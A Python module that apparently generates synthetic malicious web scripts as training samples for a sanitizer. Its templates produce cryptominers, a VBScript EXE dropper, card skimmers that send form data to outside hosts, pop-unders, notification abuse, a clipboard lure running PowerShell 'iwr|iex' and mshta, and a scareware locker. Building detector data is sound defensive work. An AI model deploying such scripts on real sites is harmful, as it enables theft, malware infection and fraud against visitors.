"""Scripts that attack readers: they mine, drop programs, steal cards, lock screens, open pages."""

from __future__ import annotations

import base64
import string
from typing import TYPE_CHECKING, Final

from sanitizer.training.generator.names import host, identifier, word
from sanitizer.training.generator.spelling import javascript, new_line

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

__all__ = ["attack"]


def attack(rng: Random) -> str:
    """Return one script, with the markup that it needs."""
    makers = [row[0] for row in _ATTACKS]
    return rng.choices(makers, [row[1] for row in _ATTACKS])[0](rng)


def _letters(rng: Random, low: int, high: int) -> str:
    return "".join(rng.choices(string.ascii_letters + string.digits, k=rng.randint(low, high)))


def _script(rng: Random, code: str) -> str:
    kind = rng.choice(("", "", ' type="text/javascript"'))
    return f"<script{kind}>{code}</script>"


def _miner(rng: Random) -> str:
    """Let readers' machines mine for somebody's account."""
    library = rng.choice(("miner", "perf", "worker", identifier(rng, 3, 9)))
    name = rng.choice(("miner", "m", "_client", identifier(rng)))
    maker = rng.choice((word(rng).title(), identifier(rng, 3, 5).upper()))
    front = rng.choice(("", "lib/", "x/", "js/"))
    loaded = f'<script src="https://{host(rng)}/{front}{library}{rng.choice((".min.js", ".js"))}">'
    throttle = rng.choice((
        f"throttle:0.{rng.randint(1, 9)}", f"throttleMiner:{rng.randint(5, 90)}",
        f"threads: {rng.randint(1, 8)}, autoThreads: true",
    ))  # fmt: skip
    if rng.random() < 0.6:
        settings = rng.choice(("", f", {{{throttle}}}"))
        made = f"new {maker}.Anonymous('{_letters(rng, 16, 64)}'{settings})"
        code = f"var {name} = {made};{name}.start();"
    else:
        pool = f"wss://{host(rng)}:{rng.choice((443, 8181, 3333))}"
        code = (
            f'{maker}.user("{_letters(rng, 20, 64)}.web");{maker}.pool("{pool}");'
            f"{maker}.start({{{throttle}}});"
        )
    return f"{loaded}</script>{new_line(rng)}{_script(rng, code)}"


def _dropper(rng: Random) -> str:
    """Write a program to the reader's disk and run it, as viruses append it to every page."""
    if rng.random() < 0.25:
        coded = "".join(rng.choices(string.printable[:62] + "~^,+/@&*", k=rng.randint(60, 900)))
        language = rng.choice(("VBScript.Encode", "JScript.Encode"))
        return f'<script language="{language}">#@~^{_letters(rng, 6, 6)}=={coded}==^#~@</script>'
    data = "4D5A" + "".join(rng.choices("0123456789ABCDEF", k=rng.randint(200, 9_000)))
    file, path, disk, shell = (word(rng, 2, 3).title() for _ in range(4))
    program = f"{rng.choice(('svchost', 'update', word(rng)))}.exe"
    code = "\n".join((
        f'{file}Name = "{program}"', f'{path}Data = "{data}"',
        f'Set {disk} = CreateObject("Scripting.FileSystemObject")',
        f'{shell}Path = {disk}.GetSpecialFolder(2) & "\\" & {file}Name',
        f"Set {file} = {disk}.CreateTextFile({shell}Path, True)",
        f"For i = 1 To Len({path}Data) Step 2",
        f'{file}.Write Chr(CLng("&H" & Mid({path}Data,i,2)))', "Next", f"{file}.Close",
        f'Set {shell} = CreateObject("WScript.Shell")', f"{shell}.Run {shell}Path, 0",
    ))  # fmt: skip
    tag = rng.choice(("SCRIPT Language=VBScript", 'script language="vbscript"',
                      'script type="text/vbscript"'))  # fmt: skip
    return f"<{tag}><!--\n{code}\n//--></{tag.split()[0]}>"


def _skimmer(rng: Random) -> str:
    """Load a thief of cards where people pay, or send what they type."""
    address = f"//{host(rng)}/{identifier(rng)}/{identifier(rng)}.js"
    coded = base64.b64encode(address.encode("ascii")).decode("ascii")
    where = rng.choice(("checkout", "onepage", "cart", "payment"))
    asked = base64.b64encode(where.encode("ascii")).decode("ascii")
    seen = rng.choice((f"location.href.indexOf('{where}')>-1", f"/{where}/.test(location.pathname)",
                       f"location.pathname.indexOf(atob('{asked}'))>0"))  # fmt: skip
    if rng.random() < 0.5:
        code = (
            f"(function(w,d,s,i){{if({seen}){{var j=d.createElement(s);j.src=atob(i);"
            f"d.head.appendChild(j);}}}})(window,document,'script','{coded}');"
        )
    else:
        name = identifier(rng, 1, 5)
        target = rng.choice((f"atob('{coded}')", f"'https:{address[:-3]}.php'"))
        code = (
            f"if({seen}){{setInterval(function(){{var {name}='';"
            "document.querySelectorAll('input,select').forEach(function(e){"
            f"{name}+=e.name+'='+e.value+'&';}});new Image().src={target}+'?d='+btoa({name});"
            f"}},{rng.choice((500, 3000, 5000))});}}"
        )
    vendor = rng.choice(("Google Tag Manager", "Analytics", "Facebook Pixel", ""))
    made = _script(rng, code)
    return f"<!-- {vendor} -->{made}<!-- End {vendor} -->" if vendor else made


def _pop_under(rng: Random) -> str:
    """Open somebody's page when the reader clicks anywhere."""
    event = rng.choice(("click", "mousedown", "touchstart"))
    address = f"https://{host(rng)}/{rng.choice(('afu.php', 'go', identifier(rng)))}"
    address += f"?{rng.choice(('zoneid', 'id', 's'))}={rng.randint(100, 9999999)}"
    go = rng.choice((
        "window.open({},'_blank');", "window.open({},'','width=1,height=1,left=9999');",
        "location.href={};", "var w=window.open({});w.blur();window.focus();",
    ))  # fmt: skip
    name = identifier(rng, 1, 4)
    once = f"if({name})return;{name}=1;" if rng.random() < 0.7 else ""
    opened = go.format(javascript(rng, address))
    heard = rng.choice((
        f"document.addEventListener('{event}',function(){{{once}{opened}}},true);",
        f"document.on{event}=function(){{{once}{opened}}};",
    ))  # fmt: skip
    return _script(rng, f"(function(){{var {name}=0;{heard}}})();")


def _pusher(rng: Random) -> str:
    """Ask for the right to notify, and send away who does not give it."""
    site, number = host(rng), rng.randint(1000, 9999999)
    loaded = f'<script src="https://{site}/{identifier(rng)}/tag.min.js?z={number}" async></script>'
    worker = f"navigator.serviceWorker.register('/{identifier(rng)}-{number}.js');"
    refused = rng.choice(("!=='granted'", "=='denied'", "!='granted'"))
    code = (
        f"{rng.choice((worker, ''))}Notification.requestPermission().then(function(p){{"
        f"if(p{refused})location.href={javascript(rng, f'https://{site}/?s={number}')};}});"
    )
    return (loaded if rng.random() < 0.6 else "") + _script(rng, code)


def _copied_command(rng: Random) -> str:
    """Have readers run what a script has put into their clipboard."""
    address = f"https://{host(rng)}/{identifier(rng)}.{rng.choice(('mp4', 'txt', 'hta', 'ps1'))}"
    command = rng.choice((f"mshta {address}", f"powershell -w hidden -c iwr {address}|iex",
                          f"cmd /c start /min mshta {address}",
                          f"powershell -NoP -enc {_letters(rng, 40, 120)}"))  # fmt: skip
    number = rng.randint(1000, 999999)
    note = rng.choice(("", f" # I am not a robot - ID {number}", f" # Verification {number}"))
    write = f"navigator.clipboard.writeText({javascript(rng, command + note)})"
    code = rng.choice((
        f"document.addEventListener('click',function(){{{write}}});",
        f"function verify(){{{write};}}",
        f"document.onclick=function(){{{write}}};",
    ))  # fmt: skip
    steps = rng.choice(("Press <b>Win + R</b>, then <b>Ctrl + V</b>, then <b>Enter</b>",
                        "1. Press Windows + R 2. Press CTRL + V 3. Press Enter",
                        "Windows+R → Ctrl+V → Enter"))  # fmt: skip
    title = rng.choice(("Verify you are human", "Checking your browser", "Update required",
                        "Confirm that you are not a robot"))  # fmt: skip
    cover = 'style="position:fixed;inset:0;background:#fff;z-index:999999"'
    return f"<div {cover}><h2>{title}</h2><p>{steps}</p>{_script(rng, code)}</div>"


def _locker(rng: Random) -> str:
    """Frighten readers into calling a number."""
    number = f"+1-8{rng.randint(0, 9)}{rng.randint(0, 9)}-555-{rng.randint(1000, 9999)}"
    warning = rng.choice((
        "YOUR COMPUTER HAS BEEN BLOCKED", "Your computer has been locked", "Security warning",
        "Ihr Computer wurde gesperrt", "Votre ordinateur a été bloqué",
        "Su equipo ha sido bloqueado", "Il tuo computer è stato bloccato",
    ))  # fmt: skip
    cause = f"{rng.choice(('Trojan', 'Spyware', 'Error'))} 0x{rng.randrange(16**6):06x}"
    code = f"alert({javascript(rng, f'{warning}! {cause}. Call {number}')});"
    if rng.random() < 0.6:
        code += f"window.onbeforeunload=function(){{return '{warning}'}};"
    if rng.random() < 0.5:
        code += "document.documentElement.requestFullscreen();"
    if rng.random() < 0.4:
        code = rng.choice((f"while(true){{{code}}}", f"setInterval(function(){{{code}}},99);"))
    return _script(rng, code)


_ATTACKS: Final[tuple[tuple[Callable[[Random], str], int], ...]] = (
    (_miner, 5),
    (_dropper, 5),
    (_skimmer, 5),
    (_pop_under, 5),
    (_pusher, 3),
    (_copied_command, 3),
    (_locker, 2),
)
